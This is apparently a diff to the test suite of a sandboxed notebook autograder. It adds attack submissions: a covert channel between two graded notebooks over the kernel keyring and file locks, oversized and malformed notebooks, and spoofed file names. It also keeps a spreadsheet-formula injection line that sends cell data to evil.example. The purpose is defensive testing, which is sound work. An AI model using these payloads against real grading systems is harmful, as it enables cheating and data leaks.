@@ -251,6 +251,38 @@ while True:
             pass
 '''
 
+# --- two submissions graded side by side, talking through the kernel
+KEYRING_WRITER = '''
+import ctypes, fcntl, time
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+secret = b"answers from the writer"
+key = libc.syscall(248, b"user", b"covert", secret, len(secret), ctypes.c_long(-3))  # add_key
+libc.syscall(250, 5, key, 0x3f3f3f3f)                                             # setperm
+lock = open("/packages/numpy/version.py")
+try:
+    fcntl.flock(lock, fcntl.LOCK_EX)
+except OSError:
+    pass
+time.sleep(6)
+'''
+KEYRING_READER = '''
+import fcntl, time
+heard = False
+for _ in range(20):
+    time.sleep(0.25)
+    try:
+        heard = heard or "covert" in open("/proc/keys").read()
+    except OSError:
+        pass
+    try:
+        fcntl.flock(open("/packages/numpy/version.py"), fcntl.LOCK_EX | fcntl.LOCK_NB)
+    except BlockingIOError:
+        heard = True
+    except OSError:
+        pass
+''' + if_it_worked("heard")
+
 # --- the gradebook
 INJECT = '''
 raise Exception('=HYPERLINK("http://evil.example/?"&A1,"click")\\nevil.ipynb,2,3,2,2,3,12,12,\\n'
@@ -376,6 +408,21 @@ def graded(tmp_path_factory):
         "        os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None\n"
         "    except OSError:\n        pass")))
     put("injects_csv.ipynb", with_cells(STUDENT, INJECT))
+    put("sidechannel_a_writer.ipynb", with_cells(STUDENT, KEYRING_WRITER))
+    put("sidechannel_b_reader.ipynb", with_cells(STUDENT, KEYRING_READER))
+    put("huge_empty_result.ipynb", with_cells(solved(), (
+        "def weight_shapes(sizes):\n    return np.zeros((12, 2**20, 0))\n")))
+    put("busy_transformer.ipynb", with_cells(solved(), "".join(
+        f"x{i} = %ls\n" for i in range(200)) + "y = 1\n" * 20000))
+    put("many_cells.ipynb", dict(STUDENT, cells=[code_cell("") for _ in range(1001)]))
+    put(" =1+1.ipynb", STUDENT)
+    put("a" * 240 + "_1.ipynb", honest)
+    put("a" * 240 + "_2.ipynb", STUDENT)
+    put("evil\\xff.ipynb", STUDENT)                   # a literal backslash, not an escape
+    put("jose\u0301.ipynb", STUDENT)                   # e + combining accent
+    put("jos\u00e9.ipynb", honest)                      # precomposed é
+    put("\u0430lice.ipynb", STUDENT)                   # Cyrillic а
+    put("alice.ipynb", honest)
     put("huge_result.ipynb", with_cells(STUDENT, (
         "def weight_shapes(sizes):\n    return np.ones(50_000_000)\n"
         "def layer_forward(w, A, b):\n    return [0.5] * 3_000_000\n")))
@@ -444,7 +491,8 @@ def total(rows, name):
 ATTACKS = ["tamper.ipynb", "trick_objects.ipynb", "forges_protocol.ipynb",
            "finds_solutions.ipynb", "uses_book.ipynb", "reads_secrets.ipynb", "escapes.ipynb",
            "sysv_writer.ipynb", "sysv_reader.ipynb", "lingers.ipynb", "fork_bomb.ipynb",
-           "kills_everything.ipynb", "injects_csv.ipynb", "huge_result.ipynb"]
+           "kills_everything.ipynb", "injects_csv.ipynb", "huge_result.ipynb",
+           "sidechannel_a_writer.ipynb", "sidechannel_b_reader.ipynb"]
 
 
 def test_exit_status_and_one_row_per_submission(graded):
@@ -563,8 +611,10 @@ def test_the_gradebook_cannot_be_forged(graded):
         assert len(fields[-1]) <= 300
     names = [fields[0] for fields in body]
     assert len(set(names)) == len(names)
-    for shown in ["'=HYPERLINK(1).ipynb", "'+1.ipynb", "'-1.ipynb", "'@sum.ipynb",
-                  "hon\\u200best.ipynb", "new\\nline.ipynb", "windows-\\xff\\xfe.ipynb"]:
+    for shown in ["'=HYPERLINK(1).ipynb", "'+1.ipynb", "'-1.ipynb", "'@sum.ipynb", "' =1+1.ipynb",
+                  "hon\\u200best.ipynb", "new\\nline.ipynb", "windows-\\xff\\xfe.ipynb",
+                  "evil\\\\xff.ipynb", "jose\\u0301.ipynb", "jos\u00e9.ipynb", "\\u0430lice.ipynb",
+                  "alice.ipynb"]:
         assert shown in names, names
     assert "evil.ipynb" not in names
     error = graded["rows"]["injects_csv.ipynb"]["error"]
@@ -572,6 +622,12 @@ def test_the_gradebook_cannot_be_forged(graded):
 
 
 def test_the_grader_stays_small(graded):
+    rows = graded["rows"]
+    assert float(rows["huge_empty_result.ipynb"]["q1"]) == 0     # shape (12, 2**20, 0) refused
+    assert "over 100 lines of IPython syntax" in rows["busy_transformer.ipynb"]["error"]
+    assert "not graded: more than 1000 code cells" in rows["many_cells.ipynb"]["error"]
+    long_names = [name for name in rows if name.startswith("a" * 100)]
+    assert len(long_names) == 2 and all(len(name) <= 200 for name in long_names)
     peak_kb = int(re.search(r"PEAK_RSS_KB (\d+)", graded["result"].stderr).group(1))
     print(f"grader's peak RSS: {peak_kb / 1024:.0f} MB")
     assert peak_kb < 1024 * 1024
@@ -742,6 +798,26 @@ try:
     seen["book"] = True
 except ImportError:
     seen["book"] = False
+import ctypes, errno, fcntl
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+refused = {}
+def refused_with(name, call):
+    try:
+        result = call()
+        refused[name] = result < 0 and ctypes.get_errno() == errno.EPERM
+    except PermissionError:
+        refused[name] = True
+    except OSError:
+        refused[name] = False
+shared = open("/packages/numpy/version.py")
+refused_with("add_key", lambda: libc.syscall(248, b"user", b"k", b"v", 1, ctypes.c_long(-3)))
+refused_with("keyctl", lambda: libc.syscall(250, 0, ctypes.c_long(-3), 0))
+refused_with("flock", lambda: fcntl.flock(shared, fcntl.LOCK_SH) or 0)
+refused_with("fcntl_lock", lambda: fcntl.lockf(shared, fcntl.LOCK_SH) or 0)
+refused_with("inotify", lambda: libc.inotify_init())
+refused_with("syslog", lambda: libc.klogctl(3, None, 0))
+seen["refused"] = refused
 import numpy, sympy, scipy
 sys.stdout.write(json.dumps(seen))
 '''.replace("@REPO@", repr(str(ROOT))).replace("@TMP@", repr(str(tmp_path))), 60, 2**30)
@@ -755,6 +831,7 @@ sys.stdout.write(json.dumps(seen))
     assert seen["dev"] == ["null", "random", "urandom", "zero"]
     assert seen["tmp"] == [] and seen["book"] is False
     assert seen["uid"] == sandboxes.SANDBOX_UID and seen["caps"] == "0000000000000000"
+    assert all(seen["refused"].values()) and len(seen["refused"]) == 6, seen["refused"]
     for ns in ["user", "mnt", "pid", "net", "ipc", "uts"]:
         assert seen[ns] != os.readlink(f"/proc/self/ns/{ns}"), ns
     host_uid = int(seen["uid_map"].split()[1])   # the uid it has on the host
